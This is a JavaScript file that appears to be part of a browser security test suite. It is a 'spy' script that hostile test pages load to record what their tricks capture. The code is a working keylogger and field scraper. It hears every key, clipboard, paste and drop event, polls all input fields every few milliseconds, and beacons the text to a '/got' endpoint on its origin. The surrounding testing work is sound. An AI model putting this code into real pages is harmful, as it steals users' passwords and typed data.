// The spy that every hostile page has beside its own trick: it hears every event of the keys, of the
// clipboard and of what is dropped, in its order, before anybody else in the page, looks at what stands
// in the fields again and again, and tells the site at once. It computes nothing: what follows from what
// was got, the test judges.
(() => {
  const home = new URL(document.currentScript.src);
  const endpoint = new URL("/got", home).href;
  const told = { document: Math.random().toString(36).slice(2), born: performance.timeOrigin };
  const logs = {};
  let number = 0;

  // A beacon outlives the page that sends it.
  const report = (channel, text) => {
    const body = JSON.stringify({ ...told, number: number++, channel, text });
    if (!navigator.sendBeacon(endpoint, body)) fetch(endpoint, { method: "POST", mode: "no-cors", body });
  };
  // Each report has all that the channel had so far, so that none depends on the order of their way.
  const log = (channel, piece) => {
    logs[channel] = (logs[channel] ?? "") + piece;
    report(channel, logs[channel]);
  };
  // A key of one character as it is, any other by its name.
  const ofKey = ({ key = "" }) => (key.length === 1 ? key : `⟨${key}⟩`);
  const ofTransfer = (transfer) => transfer?.getData("text/plain") ?? "";
  const ofInput = ({ data, inputType, dataTransfer }) =>
    data ?? (ofTransfer(dataTransfer) || (inputType === "deleteContentBackward" ? "⟨Backspace⟩" : ""));
  const HEARD = {
    keydown: ofKey,
    keypress: ofKey,
    keyup: ofKey,
    beforeinput: ofInput,
    input: ofInput,
    textInput: ({ data }) => data,
    compositionstart: ({ data }) => data,
    compositionupdate: ({ data }) => data,
    compositionend: ({ data }) => data,
    paste: ({ clipboardData }) => ofTransfer(clipboardData),
    dragover: ({ dataTransfer }) => ofTransfer(dataTransfer),
    drop: ({ dataTransfer }) => ofTransfer(dataTransfer),
  };

  const FIELDS = "input:not([type=submit], [type=button]), textarea, [contenteditable]";
  const textOf = (field) => field.value ?? field.textContent;
  const fieldsIn = (root) =>
    [...root.querySelectorAll("*")].flatMap((element) => [
      ...(element.matches(FIELDS) ? [element] : []),
      ...(element.shadowRoot ? fieldsIn(element.shadowRoot) : []),
    ]);
  const valuesOf = (root) => fieldsIn(root).map(textOf).join("");

  /** Hears whatever happens in this window, and looks at the fields of its document. */
  const watch = (view) => {
    for (const [kind, textIn] of Object.entries(HEARD)) {
      view.addEventListener(kind, (event) => log(kind, textIn(event)), true);
    }
    let last = "";
    const look = () => {
      const values = view.document ? valuesOf(view.document) : "";
      if (values !== last) report("values", (last = values));
    };
    for (const kind of Object.keys(HEARD)) view.addEventListener(kind, look);
    setInterval(look, 4);
  };

  let lastTrick = "";
  window.spy = {
    watch,
    report,
    valuesOf,
    textOf,
    ofKey,
    home,
    /** What the page's own trick has got so far. */
    trick: (text) => {
      if (text !== lastTrick) report("trick", (lastTrick = text));
    },
    /** What the page's own trick has got now, behind what it had. */
    more: (piece) => log("trick", piece),
  };
  if (!home.searchParams.has("quiet")) watch(window);
})();
